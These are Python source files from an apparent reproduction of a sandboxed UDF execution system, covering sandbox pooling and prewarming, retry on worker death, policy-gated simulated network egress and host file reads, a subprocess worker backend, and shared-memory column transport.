        """Charge a new pool entry to the admitting tenant's sandbox budget.

        The tenant comes from the admission ticket on the ambient
        :class:`QueryContext` — the same identity the WorkloadManager
        admitted the query under, including a ``workload.tenant`` session
        override (trust-domain accounting on shared compute). Un-admitted
        paths (prewarm at attach, direct backend calls) fall back to the
        context user, then the trust domain.
        """
        if self._workload is None or key in self._claim_tenants:
            return
        qctx = current_context()
        ticket = getattr(qctx, "ticket", None) if qctx is not None else None
        tenant = getattr(ticket, "tenant", None)
        if not tenant:
            tenant = qctx.user if qctx is not None and qctx.user else trust_domain
        self._claim_tenants[key] = tenant
        self._workload.charge_sandbox(tenant)

    @contextmanager
    def _locked(self) -> Iterator[None]:
        """The pool lock, counting contended entries."""
        if not self._lock.acquire(blocking=False):
            self.stats.lock_contentions += 1
            self._lock.acquire()
        try:
            yield
        finally:
            self._lock.release()

    # -- prewarming -----------------------------------------------------------------

    def ensure_min_pool(self) -> int:
        """Top the spare pool up to ``min_pool_size``; returns how many added.

        Spares are provisioned with the default policy and no pinned
        environment, so they can substitute for any acquire with matching
        (default) settings; everything else falls back to a cold start.
        """
        created = 0
        with self._locked():
            while len(self._spares) < self.min_pool_size:
                sandbox = self._manager.create_sandbox(SPARE_DOMAIN)
                self._spares.append((self._manager, sandbox))
                self.stats.prewarmed += 1
                created += 1
        return created

    def prewarm(
        self,
        session_id: str,
        trust_domains: list[str] | tuple[str, ...],
        n: int | None = None,
        policy: SandboxPolicy | None = None,
        environment: str | None = None,
        requirements: frozenset[str] = frozenset(),
    ) -> int:
        """Provision sandboxes for up to ``n`` of a session's trust domains.

        Called ahead of the first query (e.g. at session attach, when the
        session's notebook imports are known) so the ~2 s cold starts happen
        off the query path. Domains already pooled are skipped. Returns the
        number of sandboxes actually created.
        """
        limit = len(trust_domains) if n is None else min(n, len(trust_domains))
        qctx = current_context()
        created = 0
        with self._locked():
            for trust_domain in list(trust_domains)[:limit]:
                key = (session_id, trust_domain, environment, requirements)
                entry = self._pool.get(key)
                if entry is not None and not entry[1].closed:
                    continue
                manager = self._manager.manager_for(requirements)
                with span_or_null(
                    qctx,
                    "sandbox-prewarm",
                    "sandbox.prewarm",
                    trust_domain=trust_domain,
                    session_id=session_id,
                    environment=environment,
                ):
                    sandbox = manager.create_sandbox(
                        trust_domain, policy, environment=environment
                    )
                self._pool[key] = (manager, sandbox)
                self._charge_locked(key, trust_domain)
                self._prewarmed_keys.add(key)
                self.stats.prewarmed += 1
                created += 1
        return created

    # -- acquisition ----------------------------------------------------------------

    def acquire(
        self,
        session_id: str,
        trust_domain: str,
        policy: SandboxPolicy | None = None,
        environment: str | None = None,
        requirements: frozenset[str] = frozenset(),
    ) -> Sandbox:
        """Warm sandbox if one exists for this (session, domain, env,
        resources); a claimed spare if one is available; cold otherwise.

        ``environment`` is the workload-environment version the session
        pinned (§6.3): "the system will explicitly load the given workload
        environment and execute the user code exactly in this environment" —
        so sandboxes are never shared across environment versions either.
        ``requirements`` routes GPU/high-memory code to specialized
        execution environments outside the cluster (§3.3).
        """
        key = (session_id, trust_domain, environment, requirements)
        qctx = current_context()
        refunds: dict[str, int] = {}
        spares_died = False
        try:
            with self._locked():
                entry = self._pool.get(key)
                if entry is not None and entry[1].closed:
                    # Self-healing: a pooled sandbox that died between
                    # queries is evicted here rather than handed out; the
                    # caller then proceeds exactly as on a cache miss.
                    self._evict_locked(key, refunds)
                    entry = None
                if entry is not None:
                    self.stats.warm_acquisitions += 1
                    if key in self._prewarmed_keys:
                        self.stats.prewarm_hits += 1
                        self._prewarmed_keys.discard(key)
                    if qctx is not None:
                        qctx.event(
                            "sandbox-reused",
                            trust_domain=trust_domain,
                            session_id=session_id,
                        )
                    return entry[1]
                # A spare can stand in only for a default-shaped request: no
                # pinned environment, no special resources, no custom policy.
                # Dead spares (worker crashed while parked) are discarded —
                # handing one out would fail the first invoke.
                if policy is None and environment is None and not requirements:
                    while self._spares:
                        manager, sandbox = self._spares.pop()
                        if sandbox.closed:
                            self.stats.spares_evicted += 1
                            spares_died = True
                            manager.destroy_sandbox(sandbox)
                            continue
                        # Binding before first use: the spare has executed
                        # nothing, so re-labeling its trust domain leaks no
                        # state across domains — this is exactly what makes
                        # prewarming sound.
                        sandbox.trust_domain = trust_domain
                        self._pool[key] = (manager, sandbox)
                        self._charge_locked(key, trust_domain)
                        self.stats.warm_acquisitions += 1
                        self.stats.prewarm_hits += 1
                        if qctx is not None:
                            qctx.event(
                                "sandbox-spare-claimed",
                                trust_domain=trust_domain,
                                session_id=session_id,
                            )
                        return sandbox
                manager = self._manager.manager_for(requirements)
                with span_or_null(
                    qctx,
                    "sandbox-cold-start",
                    "sandbox.acquire",
                    mode="cold",
                    trust_domain=trust_domain,
                    session_id=session_id,
                    environment=environment,
                ) as span:
                    started = self._clock.now()
                    sandbox = manager.create_sandbox(
                        trust_domain, policy, environment=environment
                    )
                    elapsed = self._clock.now() - started
                    if span is not None:
                        span.set_attribute("cold_start_seconds", elapsed)
                self.stats.cold_starts += 1
                self.stats.cold_start_seconds_total += elapsed
                self.stats.cold_start_seconds_max = max(
                    self.stats.cold_start_seconds_max, elapsed
                )
                if qctx is not None:
                    qctx.telemetry.counter("sandbox.cold_starts").inc()
                self._pool[key] = (manager, sandbox)
                self._charge_locked(key, trust_domain)
                return sandbox
        finally:
            self._refund(refunds)
            if spares_died:
                # Respawn outside the claim path's lock hold so the refill
                # cold starts don't serialize concurrent acquires.
                self.ensure_min_pool()

    def _evict_locked(self, key: _PoolKey, refunds: dict[str, int]) -> None:
        """Drop one pooled sandbox, destroying it and noting the refund."""
        entry = self._pool.pop(key, None)
        if entry is None:
            return
        manager, sandbox = entry
        self._prewarmed_keys.discard(key)
        tenant = self._claim_tenants.pop(key, None)
        if tenant is not None:
            refunds[tenant] = refunds.get(tenant, 0) + 1
        self.stats.dead_evicted += 1
        manager.destroy_sandbox(sandbox)

    def _refund(self, refunds: dict[str, int]) -> None:
        """Return evicted sandbox charges to their tenants (outside lock)."""
        if self._workload is None:
            return
        for tenant, count in refunds.items():
            self._workload.release_sandbox(tenant, count)

    @staticmethod
    def _is_live(sandbox: Sandbox) -> bool:
        """Closed check plus a protocol ping where the backend has one."""
        if sandbox.closed:
            return False
        ping = getattr(sandbox, "ping", None)
        if ping is None:
            return True
        try:
            return bool(ping())
        except Exception:  # noqa: BLE001 - any probe failure means dead
            return False

    def evict(
        self,
        session_id: str,
        trust_domain: str,
        environment: str | None = None,
        requirements: frozenset[str] = frozenset(),
    ) -> bool:
        """Drop one pooled sandbox (dead or suspect); True if one existed."""
        key = (session_id, trust_domain, environment, requirements)
        refunds: dict[str, int] = {}
        with self._locked():
            existed = key in self._pool
            self._evict_locked(key, refunds)
        self._refund(refunds)
        return existed

    def probe_liveness(self) -> dict[str, int]:
        """Sweep pool + spares, evicting dead sandboxes and respawning spares.

        Run from connection housekeeping so a worker that crashed while idle
        is replaced *between* queries rather than discovered by the next
        invoke. Returns counts of evicted pooled/spare sandboxes.
        """
        refunds: dict[str, int] = {}
        dead_pooled = 0
        dead_spares = 0
        with self._locked():
            self.stats.liveness_probes += 1
            for key, (_, sandbox) in list(self._pool.items()):
                if not self._is_live(sandbox):
                    self._evict_locked(key, refunds)
                    dead_pooled += 1
            kept: list[tuple[ClusterManager, Sandbox]] = []
            for manager, sandbox in self._spares:
                if self._is_live(sandbox):
                    kept.append((manager, sandbox))
                else:
                    self.stats.spares_evicted += 1
                    dead_spares += 1
                    manager.destroy_sandbox(sandbox)
            self._spares = kept
        self._refund(refunds)
        respawned = self.ensure_min_pool()
        return {
            "dead_pooled_evicted": dead_pooled,
            "dead_spares_evicted": dead_spares,
            "spares_respawned": respawned,
        }

    def release_session(self, session_id: str) -> int:
        """Destroy all of one session's sandboxes; returns how many."""
        refunds: dict[str, int] = {}
        with self._locked():
            doomed = [key for key in self._pool if key[0] == session_id]
            for key in doomed:
                manager, sandbox = self._pool.pop(key)
                self._prewarmed_keys.discard(key)
                tenant = self._claim_tenants.pop(key, None)
                if tenant is not None:
                    refunds[tenant] = refunds.get(tenant, 0) + 1
                manager.destroy_sandbox(sandbox)
        # Refund outside the pool lock: release_sandbox reschedules queued
        # queries under the workload manager's own lock.
        if self._workload is not None:
            for tenant, count in refunds.items():
                self._workload.release_sandbox(tenant, count)
        return len(doomed)

    def pool_size(self) -> int:
        with self._locked():
            return len(self._pool)

    def spare_pool_size(self) -> int:
        with self._locked():
            return len(self._spares)

    def sandboxes_of(self, session_id: str) -> list[Sandbox]:
        with self._locked():
            return [
                entry[1] for key, entry in self._pool.items() if key[0] == session_id
            ]

    def stats_snapshot(self) -> dict[str, Any]:
        """Pool shape + counters for ``system.access.cache_stats``."""
        with self._locked():
            return {
                "pool_size": len(self._pool),
                "spare_pool_size": len(self._spares),
                "min_pool_size": self.min_pool_size,
                "cold_starts": self.stats.cold_starts,
                "warm_acquisitions": self.stats.warm_acquisitions,
                "prewarmed": self.stats.prewarmed,
                "prewarm_hits": self.stats.prewarm_hits,
                "lock_contentions": self.stats.lock_contentions,
                "charged_claims": len(self._claim_tenants),
                "liveness_probes": self.stats.liveness_probes,
                "dead_evicted": self.stats.dead_evicted,
                "spares_evicted": self.stats.spares_evicted,
                "udf_retries": self.stats.udf_retries,
            }


class SandboxedUDFRuntime(UDFRuntime):
    """UDF runtime that executes every call inside dispatcher sandboxes.

    This is what Lakeguard installs on Standard clusters; the inline default
    :class:`~repro.engine.expressions.UDFRuntime` is the legacy, unisolated
    behaviour used as the Table 2 baseline.
    """

    def __init__(
        self,
        dispatcher: Dispatcher,
        session_id: str,
        policy: SandboxPolicy | None = None,
        environment: str | None = None,
        retry_dead_sandbox: bool = True,
    ):
        self._dispatcher = dispatcher
        self._session_id = session_id
        self._policy = policy
        self._environment = environment
        #: Replay an invoke once on a fresh sandbox when the old one died
        #: *before the request was delivered*. Deaths after delivery are
        #: never replayed: the UDF may already have run its side effects,
        #: and Lakeguard promises at-most-once user-code execution.
        self.retry_dead_sandbox = retry_dead_sandbox
        self.round_trips = 0
        self.rows_processed = 0

    def _invoke_healing(
        self,
        trust_domain: str,
        requirements: frozenset[str],
        invoke: Any,
        span_name: str,
        **span_attrs: Any,
    ) -> Any:
        """Acquire + invoke with one safe retry on pre-delivery death.

        ``invoke`` is called with the acquired sandbox. On
        :class:`SandboxDied` the dead sandbox is evicted from the pool
        either way; only ``delivered=False`` (the request never reached the
        worker) is retried, on a freshly acquired replacement.
        """
        qctx = current_context()
        attempts = 2 if self.retry_dead_sandbox else 1
        for attempt in range(attempts):
            sandbox = self._dispatcher.acquire(
                self._session_id, trust_domain, self._policy, self._environment,
                requirements=requirements,
            )
            try:
                with span_or_null(
                    qctx,
                    span_name,
                    "sandbox.exec",
                    trust_domain=trust_domain,
                    sandbox=sandbox.sandbox_id,
                    attempt=attempt,
                    **span_attrs,
                ):
                    return invoke(sandbox)
            except SandboxDied as exc:
                self._dispatcher.evict(
                    self._session_id, trust_domain, self._environment,
                    requirements,
                )
                if not exc.delivered and attempt + 1 < attempts:
                    self._dispatcher.stats.udf_retries += 1
                    if qctx is not None:
                        qctx.event(
                            "sandbox-died-retrying",
                            sandbox=sandbox.sandbox_id,
                            trust_domain=trust_domain,
                        )
                        qctx.telemetry.counter("recovery.udf_retries").inc()
                    continue
                raise

    def run_udf(self, udf: PythonUDF, arg_columns: list[list[Any]]) -> list[Any]:
        self.round_trips += 1
        rows = len(arg_columns[0]) if arg_columns else 0
        self.rows_processed += rows
        return self._invoke_healing(
            udf.trust_domain,
            udf.resource_requirements,
            lambda sandbox: sandbox.invoke(udf, arg_columns),
            f"udf:{udf.name}",
            udf=udf.name,
            rows=rows,
        )

    def run_fused(
        self, calls: list[tuple[int, PythonUDF, list[list[Any]]]]
    ) -> dict[int, list[Any]]:
        """One round-trip per (trust domain, resource needs) in the group."""
        grouped: dict[
            tuple[str, frozenset[str]],
            list[tuple[int, PythonUDF, list[list[Any]]]],
        ] = {}
        for call in calls:
            key = (call[1].trust_domain, call[1].resource_requirements)
            grouped.setdefault(key, []).append(call)
        results: dict[int, list[Any]] = {}
        for (domain, requirements), domain_calls in grouped.items():
            self.round_trips += 1
            if domain_calls and domain_calls[0][2]:
                self.rows_processed += len(domain_calls[0][2][0])
            results.update(
                self._invoke_healing(
                    domain,
                    requirements,
                    lambda sandbox, dc=domain_calls: sandbox.invoke_many(dc),
                    f"udf-fused:{'+'.join(c[1].name for c in domain_calls)}",
                    fused_calls=len(domain_calls),
                )
            )
        return results
