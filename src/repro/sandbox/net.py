"""Simulated external network, reached only through sandbox egress control.

User code inside a sandbox calls :func:`http_get` / :func:`http_post`
(Figure 6's ``requests.post`` stand-in). The call is routed through the
*ambient sandbox policy* — installed by the sandbox around every invocation —
so a locked-down sandbox raises :class:`~repro.errors.EgressDenied` before
any "network" is touched.

External services are simulated by registering handlers per host; this gives
examples and tests a deterministic endpoint (e.g. the air-quality service).
"""

from __future__ import annotations

import threading
from typing import Any, Callable
from urllib.parse import urlparse

from repro.errors import SandboxError
from repro.sandbox.policy import SandboxPolicy

_STATE = threading.local()

#: host -> handler(path, payload) -> response object
_SERVICES: dict[str, Callable[[str, Any], Any]] = {}


def register_service(host: str, handler: Callable[[str, Any], Any]) -> None:
    """Register a simulated external service reachable as ``http://host/...``."""
    _SERVICES[host] = handler


def unregister_service(host: str) -> None:
    _SERVICES.pop(host, None)


class _AmbientPolicy:
    """Context manager the sandbox uses to scope its policy to user code."""

    def __init__(self, policy: SandboxPolicy):
        self._policy = policy

    def __enter__(self) -> None:
        stack = getattr(_STATE, "stack", None)
        if stack is None:
            stack = []
            _STATE.stack = stack
        stack.append(self._policy)

    def __exit__(self, *exc_info) -> None:
        _STATE.stack.pop()


def ambient_policy(policy: SandboxPolicy) -> _AmbientPolicy:
    return _AmbientPolicy(policy)


def current_policy() -> SandboxPolicy | None:
    stack = getattr(_STATE, "stack", None)
    return stack[-1] if stack else None


def _request(url: str, payload: Any) -> Any:
    parsed = urlparse(url)
    host = parsed.netloc or parsed.path.split("/", 1)[0]
    policy = current_policy()
    if policy is not None:
        policy.check_egress(host)
    # Outside any sandbox (driver-side trusted code, tests) the call is
    # allowed: egress control applies to *user* code.
    handler = _SERVICES.get(host)
    if handler is None:
        raise SandboxError(f"no simulated service registered for host '{host}'")
    return handler(parsed.path, payload)


def http_get(url: str) -> Any:
    """Simulated HTTP GET through the sandbox's egress rules."""
    return _request(url, None)


def http_post(url: str, payload: Any = None) -> Any:
    """Simulated HTTP POST through the sandbox's egress rules."""
    return _request(url, payload)
