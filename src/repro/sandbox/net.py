"""Simulated external network, reached only through sandbox egress control.

User code inside a sandbox calls :func:`http_get` / :func:`http_post`
(Figure 6's ``requests.post`` stand-in). The call is routed through the
*ambient sandbox policy* — installed by the sandbox around every invocation —
so a locked-down sandbox raises :class:`~repro.errors.EgressDenied` before
any "network" is touched.

External services are simulated by registering handlers per host; this gives
examples and tests a deterministic endpoint (e.g. the air-quality service).

Host-filesystem access works the same way: :func:`fs_read` is the brokered
read path (the stand-in for a bind mount / FUSE broker on the container
boundary), gated by the ambient policy's ``allow_host_filesystem`` bit.

The ambient-policy stack is *narrowing-only*: once a sandbox has installed
its policy around a user-code invocation, nothing running inside that scope
can install a policy that grants more than the enclosing one. Without this
rule, malicious UDF code could simply push ``UNISOLATED`` onto its own
thread's stack and exfiltrate freely (the ``udf-ambient-policy-escalation``
scenario in ``repro.attacks`` pins the defense).
"""

from __future__ import annotations

import threading
from typing import Any, Callable
from urllib.parse import urlparse

from repro.errors import HostFilesystemDenied, SandboxError, SandboxPolicyViolation
from repro.sandbox.policy import SandboxPolicy

_STATE = threading.local()

#: host -> handler(path, payload) -> response object
_SERVICES: dict[str, Callable[[str, Any], Any]] = {}


def register_service(host: str, handler: Callable[[str, Any], Any]) -> None:
    """Register a simulated external service reachable as ``http://host/...``."""
    _SERVICES[host] = handler


def unregister_service(host: str) -> None:
    _SERVICES.pop(host, None)


def _escalates(inner: SandboxPolicy, outer: SandboxPolicy) -> str | None:
    """The first way ``inner`` grants more than ``outer``, or ``None``."""
    if inner.allow_network and not outer.allow_network:
        return "allow_network"
    if inner.allow_network and "*" not in outer.egress_allowlist:
        if "*" in inner.egress_allowlist:
            return "egress_allowlist wildcard"
        if not inner.egress_allowlist <= outer.egress_allowlist:
            return "egress_allowlist"
    if inner.allow_host_filesystem and not outer.allow_host_filesystem:
        return "allow_host_filesystem"
    return None


class _AmbientPolicy:
    """Context manager the sandbox uses to scope its policy to user code."""

    def __init__(self, policy: SandboxPolicy):
        self._policy = policy

    def __enter__(self) -> None:
        stack = getattr(_STATE, "stack", None)
        if stack is None:
            stack = []
            _STATE.stack = stack
        if stack:
            # Nested installs may only narrow. The outermost policy is the
            # cluster manager's decision; user code runs strictly inside it.
            widened = _escalates(self._policy, stack[-1])
            if widened is not None:
                raise SandboxPolicyViolation(
                    "nested sandbox policy may not escalate the ambient "
                    f"policy (attempted to widen {widened})"
                )
        stack.append(self._policy)

    def __exit__(self, *exc_info) -> None:
        _STATE.stack.pop()


def ambient_policy(policy: SandboxPolicy) -> _AmbientPolicy:
    return _AmbientPolicy(policy)


def current_policy() -> SandboxPolicy | None:
    stack = getattr(_STATE, "stack", None)
    return stack[-1] if stack else None


def _request(url: str, payload: Any) -> Any:
    parsed = urlparse(url)
    host = parsed.netloc or parsed.path.split("/", 1)[0]
    policy = current_policy()
    if policy is not None:
        policy.check_egress(host)
    # Outside any sandbox (driver-side trusted code, tests) the call is
    # allowed: egress control applies to *user* code.
    handler = _SERVICES.get(host)
    if handler is None:
        raise SandboxError(f"no simulated service registered for host '{host}'")
    return handler(parsed.path, payload)


def http_get(url: str) -> Any:
    """Simulated HTTP GET through the sandbox's egress rules."""
    return _request(url, None)


def http_post(url: str, payload: Any = None) -> Any:
    """Simulated HTTP POST through the sandbox's egress rules."""
    return _request(url, payload)


def fs_read(path: str) -> bytes:
    """Brokered host-filesystem read, gated by the ambient sandbox policy.

    This is the one sanctioned way user code reaches host files (modelling
    the broker on a container's bind-mount boundary). A locked-down policy
    raises :class:`~repro.errors.HostFilesystemDenied` before the path is
    touched. Outside any sandbox (trusted driver code) the read is allowed.
    """
    policy = current_policy()
    if policy is not None and not policy.allow_host_filesystem:
        raise HostFilesystemDenied(
            f"host filesystem access is disabled for this sandbox ('{path}')"
        )
    with open(path, "rb") as handle:
        return handle.read()
