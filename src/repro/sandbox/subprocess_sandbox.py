"""Real process-isolated sandbox backend.

Spawns ``python -m repro.sandbox.worker`` and ships user functions with
cloudpickle. The isolation boundary is physical — a separate OS process —
but with the default shared-memory transport the *data* no longer crosses
the pipes: batch columns are encoded into ``shmbuf`` segments and only the
layout metadata rides the control frames, so the per-batch pickle tax the
Table 2 benchmarks measure drops to ~0. ``use_shm=False`` keeps the legacy
pickle-over-pipe transport as the measurable baseline.
"""

from __future__ import annotations

import subprocess
import sys
from typing import TYPE_CHECKING, Any

import cloudpickle

from repro.common import shmbuf
from repro.common.ids import new_id
from repro.engine.udf import PythonUDF
from repro.errors import SandboxDied, TrustDomainViolation, UserCodeError
from repro.sandbox.policy import SandboxPolicy
from repro.sandbox.sandbox import SandboxStats
from repro.sandbox.worker import read_frame, write_frame

if TYPE_CHECKING:
    from repro.common.faults import FaultInjector


class SubprocessSandbox:
    """A sandbox backed by a dedicated worker process."""

    def __init__(
        self,
        trust_domain: str,
        policy: SandboxPolicy | None = None,
        use_shm: bool = True,
    ):
        self.sandbox_id = new_id("sbx")
        self.trust_domain = trust_domain
        self.policy = policy or SandboxPolicy()
        #: Batch transport: shared-memory segments (default) or the legacy
        #: pickle-over-pipe path (kept as the Table 2 baseline).
        self.use_shm = use_shm
        self.stats = SandboxStats()
        #: Chaos hook (set by the cluster manager): a triggered
        #: ``sandbox.invoke`` fault kills the worker *before* the request is
        #: written, so the resulting :class:`SandboxDied` carries
        #: ``delivered=False`` — the real crashed-before-work case.
        self.faults: "FaultInjector | None" = None
        self._installed: dict[int, str] = {}
        self._process = subprocess.Popen(
            [sys.executable, "-m", "repro.sandbox.worker"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
        )
        self._request(("policy", self.policy.allow_network))

    # -- protocol ---------------------------------------------------------------

    def _request(self, message: Any, data_frame: bool = False) -> Any:
        """One request/response round-trip with the worker.

        Distinguishes *where* the pipe broke: a failed **write** means the
        request never reached the worker (``delivered=False`` — a retry
        cannot double-execute anything), while a failed **read** means the
        worker died holding the request (``delivered=True`` — it may have
        run side effects; retrying would break at-most-once).

        ``data_frame`` marks frames whose payload *is* batch data (the
        legacy transport's invoke frames); everything else is control
        traffic, accounted separately.
        """
        if self.closed:
            raise SandboxDied(
                f"sandbox {self.sandbox_id} is closed", delivered=False
            )
        try:
            sent = write_frame(self._process.stdin, message)
        except (BrokenPipeError, OSError) as exc:
            raise SandboxDied(
                f"sandbox {self.sandbox_id} worker died before the request "
                f"was delivered: {exc}",
                delivered=False,
            ) from exc
        try:
            (status, payload), received = read_frame(self._process.stdout)
        except (EOFError, OSError) as exc:
            raise SandboxDied(
                f"sandbox {self.sandbox_id} worker died mid-request: {exc}",
                delivered=True,
            ) from exc
        if data_frame:
            self.stats.data_pickle_bytes += sent + received
        else:
            self.stats.control_pickle_bytes += sent + received
        if status == "err":
            raise UserCodeError(str(payload))
        return payload

    def _maybe_inject_death(self) -> None:
        """Kill the worker if an armed ``sandbox.invoke`` fault triggers."""
        if self.faults is None:
            return
        decision = self.faults.check("sandbox.invoke")
        if decision.triggered:
            self._process.kill()
            self._process.wait(timeout=5)

    def _check_domain(self, udf: PythonUDF) -> None:
        if udf.trust_domain != self.trust_domain:
            raise TrustDomainViolation(
                f"UDF '{udf.name}' (domain '{udf.trust_domain}') routed to "
                f"sandbox of domain '{self.trust_domain}'"
            )

    def _ensure_installed(self, udf: PythonUDF) -> str:
        key = id(udf.func)
        udf_id = self._installed.get(key)
        if udf_id is None:
            udf_id = new_id("udf")
            blob = cloudpickle.dumps(udf.func)
            self._request(("install", udf_id, blob, udf.name))
            self._installed[key] = udf_id
        return udf_id

    # -- Sandbox interface --------------------------------------------------------

    def _account_outbound(self, meta: dict[str, Any]) -> None:
        self.stats.shm_bytes += meta["nbytes"]
        self.stats.bytes_in += meta["nbytes"]
        self.stats.data_pickle_bytes += meta["pickled_bytes"]

    def _account_inbound(self, meta: dict[str, Any]) -> None:
        self.stats.shm_bytes += meta["nbytes"]
        self.stats.bytes_out += meta["nbytes"]
        self.stats.data_pickle_bytes += meta["pickled_bytes"]

    def invoke(self, udf: PythonUDF, arg_columns: list[list[Any]]) -> list[Any]:
        self._check_domain(udf)
        udf_id = self._ensure_installed(udf)
        self._maybe_inject_death()
        self.stats.invocations += 1
        if arg_columns:
            self.stats.rows_in += len(arg_columns[0])
        if not self.use_shm:
            return self._request(("invoke", udf_id, arg_columns), data_frame=True)
        num_rows = len(arg_columns[0]) if arg_columns else 0
        meta, payload = shmbuf.encode_columns(arg_columns, num_rows)
        segment = shmbuf.create_segment(payload)
        self._account_outbound(meta)
        try:
            out_name, out_meta = self._request(
                ("invoke_shm", udf_id, segment.name, meta)
            )
        finally:
            shmbuf.release_segment(segment)
        self._account_inbound(out_meta)
        out = shmbuf.adopt_segment(out_name)
        try:
            (column,) = shmbuf.decode_columns(out_meta, out.buf)
        finally:
            shmbuf.release_segment(out)
        return column

    def invoke_many(
        self, calls: list[tuple[int, PythonUDF, list[list[Any]]]]
    ) -> dict[int, list[Any]]:
        for _, udf, _ in calls:
            self._check_domain(udf)
        wire_calls = [
            (call_id, self._ensure_installed(udf), args)
            for call_id, udf, args in calls
        ]
        self._maybe_inject_death()
        self.stats.invocations += 1
        self.stats.fused_invocations += 1
        if calls and calls[0][2]:
            self.stats.rows_in += len(calls[0][2][0])
        if not self.use_shm:
            return self._request(("invoke_many", wire_calls), data_frame=True)
        entries: list[tuple[int, str, dict[str, Any], int, int]] = []
        chunks: list[bytes] = []
        offset = 0
        for call_id, udf_id, args in wire_calls:
            num_rows = len(args[0]) if args else 0
            meta, payload = shmbuf.encode_columns(args, num_rows)
            pad = (-offset) % shmbuf.ALIGNMENT
            if pad:
                chunks.append(b"\x00" * pad)
                offset += pad
            entries.append((call_id, udf_id, meta, offset, len(payload)))
            chunks.append(payload)
            offset += len(payload)
            self._account_outbound(meta)
        segment = shmbuf.create_segment(b"".join(chunks))
        try:
            out_name, out_entries = self._request(
                ("invoke_many_shm", entries, segment.name)
            )
        finally:
            shmbuf.release_segment(segment)
        out = shmbuf.adopt_segment(out_name)
        try:
            results: dict[int, list[Any]] = {}
            for call_id, meta, off, length in out_entries:
                self._account_inbound(meta)
                (column,) = shmbuf.decode_columns(
                    meta, out.buf[off : off + length]
                )
                results[call_id] = column
        finally:
            shmbuf.release_segment(out)
        return results

    def ping(self) -> bool:
        return self._request(("ping",)) == "pong"

    def close(self) -> None:
        if self.closed:
            return
        try:
            write_frame(self._process.stdin, ("shutdown",))
            self._process.stdin.close()
        except (BrokenPipeError, OSError):
            pass
        self._process.wait(timeout=5)

    @property
    def closed(self) -> bool:
        return self._process.poll() is not None

    def __del__(self):  # pragma: no cover - interpreter shutdown ordering
        try:
            if not self.closed:
                self._process.kill()
        except Exception:
            pass
