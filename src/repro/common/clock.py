"""Clock abstraction.

Latency-sensitive components (sandbox cold start, network channel, serverless
provisioning) take a :class:`Clock` so that tests and cost models can run on a
deterministic :class:`VirtualClock` while benchmarks use the real
:class:`SystemClock`.
"""

from __future__ import annotations

import time
from typing import Protocol


class Clock(Protocol):
    """Minimal clock interface used across the library."""

    def now(self) -> float:
        """Current time in (possibly virtual) seconds."""
        ...

    def sleep(self, seconds: float) -> None:
        """Advance time by ``seconds`` (blocking for real clocks)."""
        ...


class SystemClock:
    """Wall-clock backed by :func:`time.monotonic`."""

    def now(self) -> float:
        return time.monotonic()

    def sleep(self, seconds: float) -> None:
        if seconds > 0:
            time.sleep(seconds)


class VirtualClock:
    """Deterministic clock that advances only when told to.

    ``sleep`` advances time instantly, which lets cost models "charge" a
    2-second sandbox cold start without actually waiting.
    """

    def __init__(self, start: float = 0.0):
        self._now = float(start)

    def now(self) -> float:
        return self._now

    def sleep(self, seconds: float) -> None:
        if seconds < 0:
            raise ValueError("cannot sleep a negative duration")
        self._now += seconds

    def advance(self, seconds: float) -> None:
        """Alias for :meth:`sleep`, clearer at call sites driving simulations."""
        self.sleep(seconds)
