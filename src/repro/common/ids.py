"""Prefixed unique identifiers.

All entities in the system (sessions, operations, sandboxes, credentials,
clusters) carry ids of the form ``<prefix>-<12 hex chars>`` so that log lines
and audit events are self-describing.
"""

from __future__ import annotations

import itertools
import threading
import uuid

_COUNTER = itertools.count(1)
_LOCK = threading.Lock()


def new_id(prefix: str) -> str:
    """Return a globally unique id such as ``session-3f2a9c81d7e4``."""
    return f"{prefix}-{uuid.uuid4().hex[:12]}"


def sequential_id(prefix: str) -> str:
    """Return a process-unique, *ordered* id such as ``op-000017``.

    Used where deterministic ordering matters (operation ids in tests).
    """
    with _LOCK:
        value = next(_COUNTER)
    return f"{prefix}-{value:06d}"
