"""Typed columnar buffers over ``multiprocessing.shared_memory``.

This is the data plane of the multi-process execution backend: a batch of
columns is encoded into a handful of fixed-width buffers laid out in one
contiguous payload, the payload lives in a named POSIX shared-memory
segment, and only the (small) layout metadata crosses the control pipe.
Workers map the segment and read the buffers in place — no per-batch pickle
of row data, which is exactly the serialization tax the paper's Table 2
measures for the sandbox boundary.

Per-column encodings, chosen by inspecting the values (the engine's batches
are plain Python lists and may drift from the declared schema, e.g. a
column mask that rewrites ints to ``'***'``):

- ``i8``    — 64-bit signed ints (``array('q')``) + optional validity bitmap
- ``f8``    — 64-bit floats (``array('d')``) + optional validity bitmap
- ``bool``  — bit-packed values + optional validity bitmap
- ``str``   — int64 offsets into a UTF-8 payload + optional validity bitmap
- ``bytes`` — int64 offsets into a raw payload + optional validity bitmap
- ``obj``   — pickle fallback for mixed/oversized values; kept lossless and
  counted separately so the "data-path pickle bytes ≈ 0" property stays
  measurable (homogeneous engine columns never hit it)

The module is deliberately **pure stdlib** (no engine imports), so the
subprocess sandbox worker — which must stay disconnected from the runtime —
can use the same codec for its batch handoff.

Segment ownership protocol (Python 3.11 registers every ``SharedMemory``
attach with the resource tracker, so attachers must explicitly disclaim
ownership or the tracker double-unlinks):

- :func:`create_segment`  — create + register in this process's leak guard
- :func:`attach_segment`  — map an existing segment *without* taking
  ownership (resource-tracker registration is undone)
- :func:`transfer_segment` — disclaim ownership of a segment this process
  created (the peer that adopts it becomes responsible for unlinking)
- :func:`adopt_segment`   — attach *and* take ownership
- :func:`release_segment` — close (+ unlink when owning) and drop from the
  leak guard

An ``atexit`` hook unlinks anything still owned at interpreter shutdown,
and :func:`live_segment_names` lets tests assert nothing leaked.
"""

from __future__ import annotations

import atexit
import pickle
import threading
from array import array
from typing import Any, Callable, Iterator, Sequence

from multiprocessing import resource_tracker, shared_memory

ALIGNMENT = 8

_I8_MIN = -(2**63)
_I8_MAX = 2**63 - 1

KIND_I8 = "i8"
KIND_F8 = "f8"
KIND_BOOL = "bool"
KIND_STR = "str"
KIND_BYTES = "bytes"
KIND_OBJ = "obj"


# ---------------------------------------------------------------------------
# Bit helpers
# ---------------------------------------------------------------------------


def _pack_bits(flags: Sequence[Any]) -> bytes:
    """LSB-first bitmap of truthiness, one bit per element."""
    out = bytearray((len(flags) + 7) >> 3)
    for i, flag in enumerate(flags):
        if flag:
            out[i >> 3] |= 1 << (i & 7)
    return bytes(out)


def _bit(buf: memoryview, i: int) -> int:
    return (buf[i >> 3] >> (i & 7)) & 1


# ---------------------------------------------------------------------------
# Encoding
# ---------------------------------------------------------------------------


